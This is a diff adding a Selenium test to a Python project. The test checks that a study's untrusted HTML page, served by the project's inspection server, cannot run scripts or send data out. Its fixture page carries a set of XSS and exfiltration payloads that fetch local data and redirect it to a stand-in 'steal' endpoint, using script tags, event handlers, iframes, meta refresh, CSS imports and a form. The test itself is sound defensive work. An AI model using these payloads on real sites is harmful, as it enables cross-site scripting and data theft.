@@ -8,20 +8,27 @@ import shutil
 import signal
 import subprocess
 import sys
+import time
 from collections.abc import Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from typing import Any
+from threading import Thread
+from typing import Any, TypeVar
 
 import pytest
 
 from tests.waiting import until
+from trainer.inspect.watch import Server
 from trainer.monitoring.jsonl import JsonlTracker
+from trainer.monitoring.report import Report
 
 BROWSER, DRIVER = shutil.which("chromium"), shutil.which("chromedriver")
 FLAGS = (
     *("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"),
     *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
 )
+S = TypeVar("S", bound=ThreadingHTTPServer)
 WIDTHS = {"wide": 1280, "phone": 390}
 
 
@@ -40,6 +47,64 @@ def browser(tmp_path: Path) -> Iterator[Any]:
     driver = selenium.Chrome(options=options, service=Service(DRIVER))
     yield driver
     driver.quit()
+
+
+@contextmanager
+def serve(server: S) -> Iterator[S]:
+    with server:
+        thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
+        thread.start()
+        try:
+            yield server
+        finally:
+            server.shutdown()
+            thread.join()
+
+
+@pytest.mark.long
+def test_the_script_of_a_strangers_study_does_not_run(browser: Any, tmp_path: Path):
+    asked: list[str] = []
+
+    class Thief(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, format: str, *args: object) -> None:
+            pass
+
+    with serve(ThreadingHTTPServer(("127.0.0.1", 0), Thief)) as thief:
+        steal = f"http://127.0.0.1:{thief.server_port}/steal"
+        study = tmp_path / "cool"
+        study.mkdir()
+        plan = {"question": "Which is best?", "slots": 1, "running": [], "jobs": []}
+        (study / "study.json").write_text(json.dumps(plan))
+        send = f"fetch('../../data').then(r => r.text()).then(d => location = '{steal}?' + d)"
+        (study / "index.html").write_text(
+            f"<h1>results</h1><script>document.title = 'ran'; {send}</script>"
+            f'<img src="../../data" onerror="document.title = 1; location = \'{steal}\'">'
+            f'<svg onload="location = \'{steal}\'"></svg><img src="{steal}?img">'
+            f'<iframe src="../../"></iframe><iframe srcdoc="<script>{send}</script>"></iframe>'
+            f'<meta http-equiv="refresh" content="0; url={steal}?refresh">'
+            f'<link rel="stylesheet" href="{steal}?css"><style>@import "{steal}?import";'
+            f"h1 {{ background: url({steal}?background) }}</style>"
+            f'<form action="{steal}" method="get"><input name="a"></form>'
+            "<a href=\"javascript:document.title='ran'\">more</a>"
+        )
+        with serve(Server(Report([str(tmp_path)]), 0)) as server:
+            browser.get(f"{server.url}study/0/cool")
+            until(lambda: "results" in browser.page_source, 60)
+            browser.execute_cdp_cmd(
+                "Runtime.evaluate", {"expression": "document.querySelector('a').click()"}
+            )
+            browser.execute_cdp_cmd(
+                "Runtime.evaluate", {"expression": "document.forms[0].submit()"}
+            )
+            time.sleep(1)
+            assert (asked, browser.title) == ([], "")
+            refused = [str(row["message"]) for row in browser.get_log("browser")]
+            assert any("Blocked script execution" in message for message in refused), refused
 
 
 @pytest.mark.long
